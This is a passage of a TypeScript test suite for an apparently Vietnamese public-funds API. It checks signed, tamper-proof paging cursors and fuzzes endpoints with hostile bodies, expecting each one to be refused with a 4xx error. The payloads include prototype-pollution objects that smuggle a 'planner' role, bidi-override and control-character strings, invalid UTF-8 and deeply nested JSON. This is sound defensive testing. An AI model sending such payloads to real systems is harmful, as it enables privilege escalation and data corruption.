    'GET /allocations/{id}/statement': { path: '', other: '' },
  };
  /** Where a route's page lists its items: a statement page lists lines. */
  const itemsOf = (key: string, body: Record<string, unknown>) =>
    body[key === 'GET /allocations/{id}/statement' ? 'lines' : 'items'] as unknown[];
  const firstCursors: Record<string, string> = {};
  let reader: string;
  let otherReader: string;
  const withCursor = (path: string, cursor: string) => `${path}&cursor=${encodeURIComponent(cursor)}`;
  const expectInvalidCursor = (res: ApiResponse, what: string) => {
    expect(res.status, what).toBe(400);
    expect(res.body?.error?.code, what).toBe('invalid_cursor');
    expect(res.body?.error?.message, what).toMatch(/restart from the first page/);
  };

  beforeAll(async () => {
    reader = await s.as('cursor-reader', 'auditor', 'inspector');
    otherReader = await s.as('cursor-reader-2', 'auditor', 'inspector');
    // Two postings on the ledger (the community line needs two approvals), a second request, alerts.
    const community = await s.createAllocation({ fundingLine: 'community', commune: 'A Tiêng' });
    for (const amount of [2_000_000, 3_000_000]) {
      const submitted = await s.submit(community.id, amount, 'cursor-finance');
      expect(submitted.status).toBe(201);
      expect((await s.approveAll(submitted.body.id)).status).toBe('disbursed');
    }
    const statement = `/allocations/${community.id}/statement?limit=1`;
    queries['GET /allocations/{id}/statement'] = { path: statement, other: statement };
    for (const name of ['Hộ ông A Lăng', 'Hộ bà Bhling']) {
      expect((await s.registerPayee({ name })).status).toBe(201);
    }
    const monitor = await call('POST', '/monitor/runs', {
      token: await s.as('cursor-planner', 'planner'),
      body: { asOf: '2024-12-20' },
    });
    expect(monitor.status).toBe(202);
    for (const key of Object.keys(queries)) {
      const first = await call('GET', queries[key]?.path ?? '', { token: reader });
      expect(first.status, key).toBe(200);
      expect(typeof first.body.nextCursor, `${key} has a second page`).toBe('string');
      firstCursors[key] = first.body.nextCursor;
    }
  }, 120_000);

  it('covers every paged route of the API', () => {
    expect(paged.map((r) => `${r.method} ${r.path}`).sort()).toEqual(Object.keys(queries).sort());
  });

  it.each(Object.keys(queries))(
    '%s: its own cursor reads the next page for the same caller and filters',
    async (key) => {
      const { path } = queries[key] ?? { path: '' };
      const first = await call('GET', path, { token: reader });
      const second = await call('GET', withCursor(path, first.body.nextCursor), { token: reader });
      expect(second.status).toBe(200);
      expect(itemsOf(key, second.body)).toHaveLength(1);
      expect(JSON.stringify(itemsOf(key, second.body)[0])).not.toBe(
        JSON.stringify(itemsOf(key, first.body)[0]),
      );
    },
  );

  it.each(Object.keys(queries))(
    '%s: an edited, forged, other-filter, other-caller or other-route cursor gets 400 invalid_cursor',
    async (key) => {
      const { path, other } = queries[key] ?? { path: '', other: '' };
      const cursor = firstCursors[key] ?? '';
      const [payload = '', signature = ''] = cursor.split('.');
      // The position inside: the store's own cursor (base64url JSON of a DynamoDB key), with one value
      // changed; or, on a route that pages a list it orders itself (GET /alerts), that position moved on.
      const position = Buffer.from(payload, 'base64url').toString('utf8');
      const moved = movedPosition(position);
      const flip = (text: string, at: number) =>
        `${text.slice(0, at)}${text[at] === 'A' ? 'B' : 'A'}${text.slice(at + 1)}`;
      const cases: [string, string, string][] = [
        ['payload edited', withCursor(path, `${flip(payload, 5)}.${signature}`), reader],
        ['signature edited', withCursor(path, `${payload}.${flip(signature, 3)}`), reader],
        [
          'position rewritten, signature kept',
          withCursor(path, `${Buffer.from(moved).toString('base64url')}.${signature}`),
          reader,
        ],
        // What these routes took before cursors were signed: the bare storage position.
        ['bare position (forged)', withCursor(path, position), reader],
        ['forged with a made-up signature', withCursor(path, `${payload}.${'A'.repeat(43)}`), reader],
        ['another caller', withCursor(path, cursor), otherReader],
        ...Object.entries(firstCursors)
          .filter(([k]) => k !== key)
          .map(([k, c]): [string, string, string] => [`a cursor of ${k}`, withCursor(path, c), reader]),
      ];
      if (other !== path) cases.push(['other filters', withCursor(other, cursor), reader]);
      for (const [what, url, token] of cases) expectInvalidCursor(await call('GET', url, { token }), what);
    },
  );

  it('answers fuzzed cursors on every paged route with 400 invalid_cursor, never a page or a 5xx', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...Object.keys(queries)),
        fc.oneof(
          fc.string({ minLength: 1, maxLength: 200 }),
          fc.base64String({ minLength: 4, maxLength: 200 }),
          fc.tuple(fc.nat(), fc.string({ minLength: 1, maxLength: 3 })).map(([at, text]) => ({ at, text })),
        ),
        async (key, fuzz) => {
          const genuine = firstCursors[key] ?? '';
          const cursor =
            typeof fuzz === 'string'
              ? fuzz
              : `${genuine.slice(0, fuzz.at % genuine.length)}${fuzz.text}${genuine.slice((fuzz.at % genuine.length) + 1)}`;
          fc.pre(cursor !== genuine);
          const res = await call('GET', withCursor(queries[key]?.path ?? '', cursor), { token: reader });
          expectInvalidCursor(res, `${key} ${JSON.stringify(cursor)}`);
        },
      ),
      { numRuns: 80, seed: 12 },
    );
    run.figures.notes.fuzzedCursors = 80;
  });
});

describe('hostile input never reaches a 5xx and never writes', () => {
  let before: InvariantReport;
  let keysBefore: string[];
  /** Every item but the audit logs': an auditor's read that succeeds is recorded there by design. */
  const tableKeys = async () =>
    (await scanTable(raw, readRuntimeInfo(rt.dataDir).tableName))
      .filter((i) => i.type !== 'audit')
      .map((i) => `${i.pk} ${i.sk} ${JSON.stringify(i).slice(0, 300)}`);
  beforeAll(async () => {
    // Đà Nẵng's, by its planner's token: no policy of da-nang covers 2025.
    uncoveredAllocationId = (await daNangSteps().createAllocation({ fiscalYear: 2025 })).id;
    // The base of the hostile payee bodies: registered, so any variation that would pass is a duplicate.
    expect((await s.registerPayee({ citizenId: '049087654321', name: 'Hộ ông Đã Đăng Ký' })).status).toBe(
      201,
    );
    before = await run.check(rt);
    keysBefore = await tableKeys();
  });

  const hostileString = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom(
      'e\u0301\u0301\u0301',
      '\u202Eمرحبا\u202C',
      '👨‍👩‍👧‍👦💸',
      'a\u0000b',
      '1e3',
      '0x10',
      '-0',
      ' 42 ',
      'NaN',
      // Issue 12: bidi overrides and isolates, zero-width only, lone surrogates, C0/C1 controls, NFD.
      'Hộ \u202E000.000.01',
      '\u2066Hộ A\u2069',
      '\u200B\u200C\u200D\u2060',
      'Hộ\uD800',
      'Hộ\tA',
      'Hộ\u0085A',
      'Nguy\uFFFDn',
      "Ch'ơm".normalize('NFD'),
    ),
  );
  const hostileNumber = fc.oneof(
    fc.integer({ max: 0 }),
    fc.double({ noNaN: false }).filter((n) => !Number.isSafeInteger(n) || n <= 0),
    fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, 1e300, -1, 0, 0.5, 10 ** 16),
  );
  const hostileValue = fc.oneof(
    fc.jsonValue({ maxDepth: 4 }),
    hostileString,
    hostileNumber.map(String),
    fc.constant({ __proto__: { admin: true } }),
  );
  /** A well-formed submission with exactly one field made hostile, so it can never be valid. */
  const hostileSubmission = fc
    .tuple(
      fc.constantFrom(
        'allocationId',
        'amountVnd',
        'payee',
        'payeeId',
        'purpose',
        'outputs',
        'budgetItem',
        '__proto__',
        'constructor',
      ),
      hostileValue,
      hostileNumber,
    )
    .map(([field, value, amount]) => {
      const body: Record<string, unknown> = {
        allocationId,
        amountVnd: amount,
        payee: { name: 'Hộ ông A', kind: 'household' },
        purpose: 'Hỗ trợ',
      };
      return JSON.stringify(body).replace(
        /}$/,
        `,${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}}`,
      );
    });
  /** A well-formed contract (issue 15) with a hostile value and one more field made hostile. */
  const hostileContract = fc
    .tuple(
      fc.constantFrom('number', 'signedOn', 'payeeId', 'kind', 'advanceGuaranteeRequired', '__proto__'),
      hostileValue,
      hostileNumber,
    )
    .map(([field, value, valueVnd]) =>
      JSON.stringify({
        allocationId,
        number: '02/HĐ',
        signedOn: '2024-02-30',
        payeeId,
        valueVnd,
        kind: 'construction',
      }).replace(/}$/, `,${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}}`),
    );
  /** An advance or payment on the contract with a hostile amount and one more field made hostile. */
  const hostileContractRequest = fc
    .tuple(
      fc.constantFrom('kind', 'contractId', 'recoveryVnd', 'payee', 'allocationId', 'constructor'),
      hostileValue,
      hostileNumber,
      fc.constantFrom('advance', 'payment', 'direct', 'refund'),
    )
    .map(([field, value, amountVnd, kind]) =>
      JSON.stringify({ kind, contractId, amountVnd, recoveryVnd: 1, purpose: 'Thanh toán' }).replace(
        /}$/,
        `,${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}}`,
      ),
    );
  /** A well-formed document registration with exactly one field made hostile, so it is never valid. */
  const hostileDocument = fc
    .tuple(
      fc.constantFrom('type', 'fileName', 'contentType', 'sizeBytes', 'sha256', 'status', '__proto__'),
      fc.oneof(hostileValue, hostileNumber),
    )
    .map(([field, value]) => {
      const { [field as keyof typeof aDocumentBody]: _, ...rest } = aDocumentBody;
      return JSON.stringify(rest).replace(
        /}$/,
        `,${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}}`,
      );
    })
    // Never a body the route must accept (a positive size, a clean file name are valid values).
    .filter((body) => !DocumentBody.safeParse(JSON.parse(body)).success);
  /** A well-formed measurement with exactly one field made hostile. */
  const hostileMeasurement = fc
    .tuple(fc.constantFrom('value', 'date', 'source', 'indicatorId', '__proto__'), hostileValue)
    // Never a value the route must accept: any number is a valid value, any non-blank string a source.
    .filter(([field, value]) =>
      field === 'value'
        ? typeof value !== 'number'
        : field !== 'source' || typeof value !== 'string' || value.trim() === '',
    )
    .map(([field, value]) =>
      JSON.stringify({ value: 287, date: '2024-12-31', source: 'Rà soát' }).replace(
        /}$/,
        `,${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}}`,
      ),
    );
  /**
   * A payee body with exactly one field made hostile. Its base is a payee already registered (see
   * beforeAll), so a variation the route would accept is still refused: 409 duplicate_payee.
   */
  const registeredPayee = {
    kind: 'household',
    name: 'Hộ ông Đã Đăng Ký',
    citizenId: '049087654321',
    bankAccount: { number: '1234567890', bankCode: '970405' },
    commune: 'A Tiêng',
  };
  const hostilePayee = fc
    .tuple(
      fc.constantFrom(
        'kind',
        'name',
        'citizenId',
        'taxCode',
        'bankAccount',
        'commune',
        '__proto__',
        'constructor',
      ),
      hostileValue,
    )
    .map(([field, value]) => {
      const { [field as keyof typeof registeredPayee]: _, ...rest } = registeredPayee;
      return JSON.stringify(rest).replace(
        /}$/,
        `,${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}}`,
      );
    });
  const rawBody = fc.oneof(
    fc.jsonValue({ maxDepth: 6 }).map((v) => JSON.stringify(v) ?? 'null'),
    hostileString,
    fc.integer({ min: 200, max: 20_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`),
    fc.integer({ min: 200, max: 5_000 }).map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`),
    // A key written twice: JSON.parse would keep the last one silently.
    fc.constantFrom(
      '{"amountVnd":1,"amountVnd":999}',
      '{"a":{"b":1,"b":2}}',
      '{"outputs":{"houses":1,"houses":9}}',
    ),
    fc.constantFrom(
      '{"__proto__":{"roles":["planner"]},"constructor":{"prototype":{"x":1}}}',
      `{"purpose":"${'x'.repeat(1024 * 1024)}"}`,
      '{"amountVnd":"100000"}',
      '{"amountVnd":1e400}',
    ),
  );

  const targets = [
    { method: 'POST', path: () => '/requests', role: 'finance', body: fc.oneof(hostileSubmission, rawBody) },
    { method: 'POST', path: () => '/allocations', role: 'planner', body: rawBody },
    {
      method: 'POST',
      path: () => `/allocations/${allocationId}/adjustments`,
      role: 'planner',
      body: rawBody,
    },
    {
      method: 'POST',
      path: () => `/allocations/${allocationId}/extension`,
      role: 'planner',
      body: rawBody,
    },
    {
      method: 'POST',
      path: () => `/requests/${requestId}/decisions`,
      role: 'approver-district',
      body: rawBody,
    },
    { method: 'POST', path: () => '/subscriptions', role: 'inspector', body: rawBody },
    {
      method: 'POST',
      path: () => `/targets/${indicatorId}/measurements`,
      role: 'planner',
      body: fc.oneof(hostileMeasurement, rawBody),
    },
    { method: 'PUT', path: () => `/targets/${indicatorId}`, role: 'planner', body: rawBody },
    { method: 'POST', path: () => '/payees', role: 'finance', body: fc.oneof(hostilePayee, rawBody) },
    { method: 'POST', path: () => '/contracts', role: 'finance', body: fc.oneof(hostileContract, rawBody) },
    { method: 'POST', path: () => `/contracts/${contractId}/amendments`, role: 'finance', body: rawBody },
    { method: 'POST', path: () => '/requests', role: 'finance', body: hostileContractRequest },
    {
      method: 'POST',
      path: () => `/requests/${requestId}/documents`,
      role: 'finance',
      body: fc.oneof(hostileDocument, rawBody),
    },
  ] as const;

  it.each(targets.map((t) => [`${t.method} ${t.path()}`.replace(/[0-9a-f-]{36}/, '{id}'), t]))(
    'answers %s with a 4xx error body to every hostile body',
    async (_name, target) => {
      const token = await s.as(`fuzz-${target.role}`, target.role);
      await fc.assert(
        fc.asyncProperty(target.body, async (body) => {
          const res = await call(target.method, target.path(), {
            token,
            body,
            headers: { 'idempotency-key': randomUUID(), 'content-type': 'application/json' },
          });
          expect(res.status).toBeGreaterThanOrEqual(400);
          expect(res.status).toBeLessThan(500);
          expectErrorBody(res);
        }),
        { numRuns: 40, seed: 7 },
      );
      run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 40;
    },
  );

  /** An allocation body the API would accept (in a year an approval policy and a budget catalogue cover). */
  const allocationBody = (fiscalYear: number) => ({
    fiscalYear,
    fundingLine: 'central',
    capitalType: 'investment',
    component: 'DA1',
    commune: 'A Tiêng',
    title: 'Đường',
    amountVnd: 1_000_000,
  });

  it('refuses an unknown investor or jurisdiction with 400 naming the field, and a submission in a year no approval policy covers with 422, writing nothing', async () => {
    const planner = await s.as('policy-planner', 'planner');
    const allocation = allocationBody(2026);
    const cases = [
      ['investor', 'ban-qlda'],
      ['investor', 'constructor'],
      ['jurisdiction', 'ha-noi'],
      ['jurisdiction', '__proto__'],
      ['jurisdiction', 'DA-NANG'],
    ] as const;
    for (const [field, value] of cases) {
      const res = await call('POST', '/allocations', {
        token: planner,
        headers: { 'idempotency-key': randomUUID() },
        body: { ...allocation, [field]: value },
      });
      expect(res.status, `${field}: ${value}`).toBe(400);
      expect(res.body.error.code).toBe('invalid_request');
      expect(res.body.error.message).toContain(field);
    }
    for (const amountVnd of [1, 10_000_000, 900_000_000]) {
      const res = await daNangSteps().submit(uncoveredAllocationId, amountVnd, 'policy-finance');
      expect(res.status).toBe(422);
      expect(res.body.error).toMatchObject({
        code: 'no_approval_policy',
        details: { jurisdiction: 'da-nang', fiscalYear: 2025 },
      });
    }
    run.figures.operations += cases.length + 3;
  });

  it('refuses a new allocation claiming to be carried over (carriedFrom: only the year-end close sets it) with 400 naming the field, writing nothing', async () => {
    const planner = await s.as('carried-planner', 'planner');
    const title = `Vốn chuyển sang giả ${randomUUID()}`;
    const cases: unknown[] = [allocationId, '2023-da1-central-a-tieng', '', null, { id: allocationId }];
    for (const carriedFrom of cases) {
      const res = await call('POST', '/allocations', {
        token: planner,
        headers: { 'idempotency-key': randomUUID() },
        body: { ...allocationBody(2024), title, carriedFrom },
      });
      expect(res.status, JSON.stringify(carriedFrom)).toBe(400);
      expect(res.body.error.code).toBe('invalid_request');
      expect(res.body.error.message).toContain('carriedFrom');
    }
    const listed = await call('GET', '/allocations?fiscalYear=2024', { token: planner });
    expect(listed.body.items.filter((a: { title: string }) => a.title === title)).toEqual([]);
    run.figures.operations += cases.length + 1;
  });

  it('refuses as a commune a unit of another tier, or a name written with a tier word, with 400 naming the field, writing nothing', async () => {
    const planner = await s.as('commune-planner', 'planner');
    const cases = ['Huyện Tây Giang', 'huyện Tây Giang', 'Đà Nẵng', 'Quảng Nam', 'xã Avương', 'Xã A Tiêng'];
    for (const commune of cases) {
      const res = await call('POST', '/allocations', {
        token: planner,
        headers: { 'idempotency-key': randomUUID() },
        body: {
          fiscalYear: 2024,
          fundingLine: 'local',
          capitalType: 'investment',
          component: 'DA1',
          commune,
          title: 'Đường',
          amountVnd: 1_000_000,
        },
      });
      expect(res.status, commune).toBe(400);
      expect(res.body.error.message).toMatch(/^body\.commune: must be the name of a commune/);
    }
    run.figures.operations += cases.length;
  });

  it('refuses a commune that is not one of the caller’s jurisdiction in the year, in a body or a filter, with 400 listing the valid names, writing nothing', async () => {
    const tayGiang = { planner: await s.as('own-commune-planner', 'planner') };
    const daNangPlanner = await daNangSteps().as('own-commune-planner-dn', 'planner');
    const allocation = (fiscalYear: number, commune: string) => ({
      fiscalYear,
      fundingLine: 'central',
      capitalType: 'investment',
      component: 'DA1',
      commune,
      title: 'Đường xã khác',
      amountVnd: 1_000_000,
    });
    const countOf = async (token: string) =>
      (await call('GET', '/allocations', { token })).body.items.length as number;
    const before = [await countOf(tayGiang.planner), await countOf(daNangPlanner)];
    const cases: [string, string, string, Record<string, unknown> | undefined, string][] = [
      // Another jurisdiction's commune, in the year it exists.
      [tayGiang.planner, 'POST', '/allocations', allocation(2024, 'Avương'), 'A Tiêng'],
      [daNangPlanner, 'POST', '/allocations', allocation(2026, 'A Tiêng'), 'Hùng Sơn'],
      // The own jurisdiction's commune in a year it did not exist (the district's ended 30/6/2025).
      [tayGiang.planner, 'POST', '/allocations', allocation(2026, 'A Tiêng'), 'không có xã nào'],
      [daNangPlanner, 'POST', '/allocations', allocation(2024, 'Avương'), 'không có xã nào'],
      // Filters and a subscription's scope.
      [
        tayGiang.planner,
        'GET',
        '/allocations?fiscalYear=2024&commune=Av%C6%B0%C6%A1ng',
        undefined,
        'A Tiêng',
      ],
      [
        await s.as('own-commune-auditor', 'auditor'),
        'GET',
        '/ledger/entries?fiscalYear=2024&commune=Av%C6%B0%C6%A1ng',
        undefined,
        'A Tiêng',
      ],
      [
        await s.as('own-commune-inspector', 'inspector'),
        'POST',
        '/subscriptions',
        { email: 'thanh.tra@gov.vn', scope: { commune: 'Hùng Sơn' } },
        'A Tiêng',
      ],
    ];
    for (const [token, method, path, body, listed] of cases) {
      const res = await call(method, path, {
        token,
        headers: { 'idempotency-key': randomUUID() },
        ...(body ? { body } : {}),
      });
      expect(res.status, `${method} ${path} ${JSON.stringify(body)}`).toBe(400);
      expect(res.body.error).toMatchObject({ code: 'invalid_request' });
      expect(res.body.error.message).toMatch(/commune: ".+" không phải là xã, phường của/);
      expect(res.body.error.message).toContain(listed);
    }
    expect([await countOf(tayGiang.planner), await countOf(daNangPlanner)]).toEqual(before);
    const subscriptions = await call('GET', '/subscriptions', {
      token: await s.as('own-commune-inspector', 'inspector'),
    });
    expect(subscriptions.body.items).toEqual([]);
    run.figures.operations += cases.length + 5;
  });

  it('answers adjustments that would push assigned capital past 10^15 with 422 amount_out_of_range, sent one by one or eight at once', async () => {
    const token = await s.as('fuzz-planner', 'planner');
    const adjust = (deltaVnd: number) =>
      call('POST', `/allocations/${allocationId}/adjustments`, {
        token,
        body: { deltaVnd, reason: 'Bổ sung' },
        headers: { 'idempotency-key': randomUUID() },
      });
    // The allocation holds 900,000,000 VND: any increase above 10^15 − 900,000,000 passes the limit.
    const tooMuch = fc.integer({ min: MAX_AMOUNT_VND - 900_000_000 + 1, max: MAX_AMOUNT_VND });
    await fc.assert(
      fc.asyncProperty(tooMuch, async (deltaVnd) => {
        const res = await adjust(deltaVnd);
        expect(res.status).toBe(422);
        expect(res.body.error).toMatchObject({
          code: 'amount_out_of_range',
          details: { field: 'assignedVnd', current: 900_000_000, delta: deltaVnd },
        });
      }),
      { numRuns: 10, seed: 7 },
    );
    const racing = await Promise.all(Array.from({ length: 8 }, () => adjust(MAX_AMOUNT_VND)));
    expect(racing.map((r) => r.status)).toEqual(Array(8).fill(422));
  });

  it('refuses hostile reallocations with a 4xx naming what to fix, moving nothing (issue 17)', async () => {
    const token = await s.as('fuzz-planner', 'planner');
    const post = (moves: unknown, as = token) =>
      call('POST', '/reallocations', {
        token: as,
        headers: { 'idempotency-key': randomUUID() },
        body: { decisionNumber: '1/QĐ-UBND', decidedOn: '2024-10-01', reason: 'Thử điều chỉnh', moves },
      });
    const move = (from: string, to: string, amountVnd: unknown = 1) => ({
      fromAllocationId: from,
      toAllocationId: to,
      amountVnd,
    });
    const codeOf = async (moves: unknown, as?: string) => {
      const res = await post(moves, as);
      expectErrorBody(res);
      return [res.status, res.body.error.code];
    };
    // More moves than one transaction holds (the policy's cap, 20 by default).
    const many = Array.from({ length: 21 }, () => move(allocationId, otherCommuneAllocationId));
    expect(await codeOf(many)).toEqual([422, 'too_many_moves']);
    expect(await codeOf([move(allocationId, allocationId)])).toEqual([422, 'circular_reallocation']);
    expect(
      await codeOf([move(allocationId, otherCommuneAllocationId), move(otherCommuneAllocationId, requestId)]),
    ).toEqual([422, 'circular_reallocation']);
    // Another jurisdiction's allocation is not found; more than available is insufficient_funds.
    expect(await codeOf([move(allocationId, uncoveredAllocationId)])).toEqual([404, 'not_found']);
    expect(await codeOf([move(allocationId, otherCommuneAllocationId, MAX_AMOUNT_VND)])).toEqual([
      422,
      'insufficient_funds',
    ]);
    // A planner limited to one commune may not move the plan's capital.
    const scopedPlanner = await rt.token('scoped-planner', ['planner'], { commune: 'A Nông' });
    expect(await codeOf([move(otherCommuneAllocationId, allocationId)], scopedPlanner)).toEqual([
      403,
      'forbidden',
    ]);
    await fc.assert(
      fc.asyncProperty(hostileNumber, async (amountVnd) => {
        expect(await codeOf([move(allocationId, otherCommuneAllocationId, amountVnd)])).toEqual([
          400,
          'invalid_request',
        ]);
      }),
      { numRuns: 15, seed: 17 },
    );
    expect(await codeOf([])).toEqual([400, 'invalid_request']);
  });

  /** A submission the API would accept, but for the one field made hostile. */
  const submissionWith = (edit: (body: Record<string, unknown>) => void) => {
    const body: Record<string, unknown> = {
      allocationId,
      amountVnd: 1_000_000,
      payee: { name: 'Hộ bà Y', kind: 'household' },
      purpose: 'Hỗ trợ sinh kế',
    };
    edit(body);
    return body;
  };

  it('refuses a valid submission whose one text field is hostile with 400 naming the field', async () => {
    const token = await s.as('fuzz-finance', 'finance');
    const hostileText = fc.oneof(
      // Any text holding a bidi override or isolate, wherever it sits.
      fc
        .tuple(
          fc.string({ maxLength: 10 }),
          fc.constantFrom(...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069'),
          fc.string({ maxLength: 10 }),
        )
        .map(([a, c, b]) => `Hộ${a}${c}${b}`),
      // Any text holding a C0 or C1 control (tab and line break included).
      fc
        .tuple(
          fc.integer({ min: 0, max: 0x9f }).filter((n) => n < 0x20 || n >= 0x7f),
          fc.string({ maxLength: 10 }),
        )
        .map(([n, rest]) => `Hộ ${String.fromCharCode(n)}${rest}`),
      // Only zero-width characters and blanks.
      fc
        .array(fc.constantFrom('\u200B', '\u200C', '\u200D', '\uFEFF', '\u2060', ' '), {
          minLength: 1,
          maxLength: 8,
        })
        .filter((parts) => parts.some((p) => p !== ' ' && p !== '\uFEFF')),
      // A lone surrogate.
      fc.integer({ min: 0xd800, max: 0xdfff }).map((n) => `Hộ ${String.fromCharCode(n)}`),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('payee.name', 'purpose'), hostileText, async (field, value) => {
        const body = submissionWith((b) => {
          if (field === 'purpose') b.purpose = value;
          else b.payee = { name: value, kind: 'household' };
        });
        const res = await call('POST', '/requests', {
          token,
          body,
          headers: { 'idempotency-key': randomUUID() },
        });
        expect(res.status).toBe(400);
        expect(res.body.error.code).toBe('invalid_request');
        expect(res.body.error.message.startsWith(`body.${field}: `)).toBe(true);
      }),
      { numRuns: 60, seed: 12 },
    );
    run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 60;
  });

  it('refuses hostile budget codes, items and Treasury vouchers with 400 naming the field, unknown codes with 422 invalid_budget_code, and a voucher at another level with 422', async () => {
    const planner = await s.as('fuzz-planner', 'planner');
    const finance = await s.as('fuzz-finance', 'finance');
    const district = await s.as('fuzz-district', 'approver-district');
    const codes = { chapter: '805', sector: '280-292', programme: '0070', source: '01' };
    const allocationWith = (budgetCodes: unknown) => ({ ...allocationBody(2024), budgetCodes });
    // A code written with other digits, blanks, bidi marks, a key separator, or too long/short.
    const hostileCode = fc.oneof(
      hostileString,
      fc.constantFrom('٠٠٧٠', '００７０', ' 0070', '0070‮', '0070#1', '007', '00700', '', '0x46', '1e3'),
      fc.jsonValue({ maxDepth: 2 }).filter((v) => typeof v !== 'string'),
    );
    // The field named first; a number with a fraction or exponent is refused while parsing, naming its key.
    const namesField = (field: string) =>
      new RegExp(`^(${field.replace('.', '\\.')}|([^ ]*: )?numbers must be plain whole numbers)`);
    const hostileVoucher = fc.oneof(
      hostileValue,
      fc.constantFrom(
        { number: 'unc-1', valueDate: '2024-03-01' },
        { number: 'UNC#1', valueDate: '2024-03-01' },
        { number: 'UNC-1‮', valueDate: '2024-03-01' },
        { number: 'A'.repeat(41), valueDate: '2024-03-01' },
        { number: 'UNC-1', valueDate: '2024-02-30' },
        { number: 'UNC-1', valueDate: '01/03/2024' },
        { number: 'UNC-1', valueDate: '2024-03-01', by: 'x' },
        { number: 'UNC-1' },
      ),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('chapter', 'sector', 'programme', 'project', 'source'),
        hostileCode,
        async (field, value) => {
          const res = await call('POST', '/allocations', {
            token: planner,
            body: allocationWith({ ...codes, [field]: value }),
          });
          expect(res.status).toBe(400);
          expect(res.body.error.message).toMatch(namesField('body.budgetCodes'));
        },
      ),
      { numRuns: 30, seed: 15 },
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('item', 'subItem'), hostileCode, async (field, value) => {
        const res = await call('POST', '/requests', {
          token: finance,
          body: submissionWith((b) => {
            b.budgetItem = { item: '9300', subItem: '9303', [field]: value };
          }),
          headers: { 'idempotency-key': randomUUID() },
        });
        expect(res.status).toBe(400);
        expect(res.body.error.message).toMatch(namesField('body.budgetItem'));
      }),
      { numRuns: 20, seed: 15 },
    );
    await fc.assert(
      fc.asyncProperty(hostileVoucher, async (treasuryVoucher) => {
        const res = await call('POST', `/requests/${requestId}/decisions`, {
          token: district,
          body: { decision: 'approve', treasuryVoucher },
          headers: { 'idempotency-key': randomUUID() },
        });
        expect(res.status).toBe(400);
        expect(res.body.error.message).toMatch(namesField('body.treasuryVoucher'));
      }),
      { numRuns: 30, seed: 15 },
    );
    run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 80;

    const unknown = await call('POST', '/allocations', {
      token: planner,
      body: allocationWith({ ...codes, chapter: '999' }),
    });
    expect(unknown.status).toBe(422);
    expect(unknown.body.error).toMatchObject({
      code: 'invalid_budget_code',
      details: { allowed: ['405', '605', '805'] },
    });
    const inherited = await call('POST', '/requests', {
      token: finance,
      body: submissionWith((b) => {
        b.budgetItem = { item: '9300', subItem: '9399' };
      }),
      headers: { 'idempotency-key': randomUUID() },
    });
    expect(inherited.status).toBe(422);
    expect(inherited.body.error.code).toBe('invalid_budget_code');
    const atDistrict = await call('POST', `/requests/${districtRequestId}/decisions`, {
      token: district,
      body: { decision: 'approve', treasuryVoucher: { number: 'UNC-1', valueDate: '2024-03-01' } },
      headers: { 'idempotency-key': randomUUID() },
    });
    expect(atDistrict.status, JSON.stringify(atDistrict.body)).toBe(422);
    expect(atDistrict.body.error.code).toBe('voucher_not_expected');
  });

  it('refuses a valid submission that repeats a key, wherever the repeat sits', async () => {
    const token = await s.as('fuzz-finance', 'finance');
    const valid = JSON.stringify(submissionWith(() => {}));
    for (const body of [
      valid.replace('"amountVnd":1000000', '"amountVnd":1,"amountVnd":999'),
      valid.replace('"kind":"household"', '"kind":"household","name":"Hộ khác"'),
      valid.replace(/}$/, `,"allocationId":${JSON.stringify(allocationId)}}`),
      valid.replace('"purpose"', '"\\u0070urpose":"x","purpose"'),
    ]) {
      const res = await call('POST', '/requests', {
        token,
        body,
        headers: { 'idempotency-key': randomUUID() },
      });
      expect(res.status, body).toBe(400);
      expect(res.body.error.message, body).toMatch(/appears twice in one object/);
    }
  });

  it('refuses a valid submission holding bytes that are not UTF-8, sent over a raw socket', async () => {
    const bearer = `Bearer ${await s.as('fuzz-finance', 'finance')}`;
    const [before, after] = JSON.stringify(
      submissionWith((b) => {
        b.payee = { name: 'Hộ @@', kind: 'household' };
      }),
    ).split('@@');
    for (const bad of [
      [0xff],
      [0xc3, 0x28],
      [0xc0, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xe1, 0xbb],
      [0xf4, 0x90, 0x80, 0x80],
    ]) {
      const res = await rawRequest(rt.url, {
        method: 'POST',
        path: '/requests',
        headers: [
          ['Authorization', bearer],
          ['Content-Type', 'application/json'],
          ['Idempotency-Key', randomUUID()],
        ],
        body: Buffer.concat([
          Buffer.from(before ?? '', 'utf8'),
          Buffer.from(bad),
          Buffer.from(after ?? '', 'utf8'),
        ]),
      });
      run.figures.operations += 1;
      expect(res.status, String(bad)).toBe(400);
      expect(JSON.parse(res.body).error.message, String(bad)).toMatch(/not valid UTF-8/);
    }
  });

  it('answers a 1 MiB body with 413 and a body nested 100,000 deep with a 4xx, both with the error body', async () => {
    const token = await s.as('fuzz-finance', 'finance');
    for (const body of [
      `{"purpose":"${'ư'.repeat(512 * 1024)}"}`,
      `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    ]) {
      const res = await call('POST', '/requests', {
        token,
        body,
        headers: { 'idempotency-key': randomUUID() },
      });
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expectErrorBody(res);
    }
  });

  it('answers hostile query strings on the read routes with 200 or a 4xx error body', async () => {
    const token = await s.as('fuzz-auditor', 'auditor');
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          '/ledger/entries',
          '/allocations',
          '/requests',
          '/reports/progress',
          '/reports/ket-qua-giai-ngan.xlsx',
